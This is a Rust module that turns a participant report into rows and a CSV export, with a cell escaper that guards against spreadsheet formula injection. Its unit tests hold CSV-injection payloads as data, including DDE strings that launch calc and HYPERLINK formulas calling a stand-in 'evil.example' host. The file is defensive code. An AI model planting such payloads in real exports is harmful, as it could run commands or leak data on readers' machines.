//! The report as rows of (indicator, category, count), in a stable order: the CSV export and
//! the CLI's table are made from them.

use std::fmt::Write as _;

use tandem_protocol::{CategoryCount, ParticipantReport};

/// The header line of the CSV export.
pub const CSV_HEADER: &str = "from,to,indicator,category,count";

/// One figure: an indicator (the JSON name in [`ParticipantReport`]), a category (`total`
/// for a single number) and the count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct IndicatorRow<'a> {
    /// The indicator, e.g. `participants_by_gender`.
    pub indicator: &'static str,
    /// The category, e.g. `non_binary`, or `total`.
    pub category: &'a str,
    /// How many.
    pub count: u64,
}

/// Every figure of the report, in the order of its JSON fields.
pub fn indicator_rows(report: &ParticipantReport) -> Vec<IndicatorRow<'_>> {
    let total = |indicator, count| {
        vec![IndicatorRow {
            indicator,
            category: "total",
            count,
        }]
    };
    fn each<'a>(indicator: &'static str, counts: &'a [CategoryCount]) -> Vec<IndicatorRow<'a>> {
        counts
            .iter()
            .map(|c| IndicatorRow {
                indicator,
                category: &c.category,
                count: c.count,
            })
            .collect()
    }
    [
        total("participants", report.participants),
        each("participants_by_gender", &report.participants_by_gender),
        each("participants_by_age", &report.participants_by_age),
        each(
            "participants_by_employment_status",
            &report.participants_by_employment_status,
        ),
        each(
            "participants_by_education",
            &report.participants_by_education,
        ),
        each("third_country_national", &report.third_country_national),
        each("foreign_background", &report.foreign_background),
        each("disability", &report.disability),
        total("exits", report.exits),
        each("exits_by_situation", &report.exits_by_situation),
        total("contacts", report.contacts),
        each("contacts_by_topic", &report.contacts_by_topic),
        each(
            "contacts_by_service_language",
            &report.contacts_by_service_language,
        ),
        each("contacts_by_referral", &report.contacts_by_referral),
        each("contacts_by_channel", &report.contacts_by_channel),
        each("contacts_by_site", &report.contacts_by_site),
        total("unique_clients", report.unique_clients),
        total("anonymous_visitors", report.anonymous_visitors),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// The names of sites by id, for the categories of `contacts_by_site`.
pub type SiteNames = std::collections::BTreeMap<String, String>;

/// A row's category as people read it: a site by its name where `sites` has one (an id
/// without a name, a site this side does not know, stays an id); anything else as it is.
pub fn category_label<'a>(row: &IndicatorRow<'a>, sites: &'a SiteNames) -> &'a str {
    match row.indicator {
        "contacts_by_site" => sites.get(row.category).map_or(row.category, String::as_str),
        _ => row.category,
    }
}

/// The report as CSV: [`CSV_HEADER`], then one line per figure with the period's dates;
/// sites by their names where `sites` has them (a spreadsheet is read by people).
pub fn to_csv(report: &ParticipantReport, sites: &SiteNames) -> String {
    let mut out = String::from(CSV_HEADER);
    out.push('\n');
    for row in indicator_rows(report) {
        // Writing to a String cannot fail.
        let _ = writeln!(
            out,
            "{},{},{},{},{}",
            report.from,
            report.to,
            row.indicator,
            csv_cell(category_label(&row, sites)),
            row.count
        );
    }
    out
}

/// One cell of a CSV file Tandem writes (the report here, the server's access export):
/// quoted when it holds a comma, a quote or a line break (RFC 4180) or a semicolon, and
/// written as text when a spreadsheet would read it as a formula. Excel in a Finnish or
/// Swedish locale opens a .csv with `;` between cells, so an unquoted `x;=HYPERLINK(...)`
/// would become two cells, the second a formula; a quoted field stays one cell whichever
/// separator the spreadsheet uses. A cell beginning with `=`, `+`, `-`, `@`, a tab
/// or a carriage return runs as a formula in Excel and LibreOffice (a client named
/// `=HYPERLINK(...)` would send data away when the file is opened), so it gets a leading `'`,
/// as OWASP advises ("CSV Injection"): the spreadsheet shows the text, and a reader of the
/// file sees the one added character. A cell that is only a sign and digits (a phone number
/// `+358401234567`, a count `-5`) calls no function and refers to no cell, so it is left as
/// it is: a script or a person reading the export gets the number, not `'+358…`. Values come
/// from coaches and admins (names, site names), so no cell is trusted.
pub fn csv_cell(text: &str) -> String {
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_signed_digits(text) {
        format!("'{text}")
    } else {
        text.to_owned()
    };
    if text.contains([',', ';', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// Whether `text` is an optional `+` or `-` followed by one digit or more, and nothing else.
fn is_signed_digits(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_with_a_comma_quote_or_line_break_is_quoted() {
        assert_eq!(csv_cell("fi"), "fi");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_cell("line\nbreak"), "\"line\nbreak\"");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text() {
        for formula in [
            "=1+1",
            "=1",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "+HYPERLINK('http://evil.example';A1)",
            "+",
            "-",
            "+ 1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(csv_cell(formula).trim_matches('"'), format!("'{formula}"));
        }
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example\",\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""
        );
        // Only the first character counts.
        assert_eq!(csv_cell("a=b"), "a=b");
        assert_eq!(csv_cell(""), "");
    }

    #[test]
    fn a_cell_of_only_a_sign_and_digits_is_written_as_it_is() {
        for number in ["+358401234567", "-5", "+1", "-1", "0401234567"] {
            assert_eq!(csv_cell(number), number);
        }
    }

    #[test]
    fn a_cell_with_a_semicolon_is_quoted_so_a_spreadsheet_splitting_on_semicolons_keeps_it_whole() {
        // Finnish and Swedish Excel open a .csv with `;` between cells: unquoted, the part
        // after a `;` would be a cell of its own, and one that begins as a formula runs.
        assert_eq!(csv_cell("x;=cmd|' /C calc'!A0"), "\"x;=cmd|' /C calc'!A0\"");
        assert_eq!(csv_cell("a;b"), "\"a;b\"");
        assert_eq!(csv_cell("=a;b"), "\"'=a;b\"");
    }

    #[test]
    fn a_site_named_like_a_formula_reaches_the_report_csv_as_text() {
        let day = chrono::NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
        let period = crate::ReportPeriod::new(day, day).unwrap();
        let mut report = crate::participant_report(&crate::ReportData::default(), period);
        report.contacts_by_site = vec![CategoryCount {
            category: "id-1".to_owned(),
            count: 3,
        }];
        let names = SiteNames::from([("id-1".to_owned(), "=cmd|' /C calc'!A0".to_owned())]);
        let csv = to_csv(&report, &names);
        assert!(
            csv.lines()
                .any(|line| line.ends_with(",contacts_by_site,'=cmd|' /C calc'!A0,3")),
            "{csv}"
        );
    }

    #[test]
    fn sites_are_named_where_a_name_is_known_and_other_categories_stay_codes() {
        let site = |category| IndicatorRow {
            indicator: "contacts_by_site",
            category,
            count: 1,
        };
        let names = SiteNames::from([("id-1".to_owned(), "Tikkurila NGO house".to_owned())]);
        assert_eq!(category_label(&site("id-1"), &names), "Tikkurila NGO house");
        assert_eq!(category_label(&site("id-2"), &names), "id-2");
        let topic = IndicatorRow {
            indicator: "contacts_by_topic",
            category: "id-1",
            count: 1,
        };
        assert_eq!(category_label(&topic, &names), "id-1");
    }
}
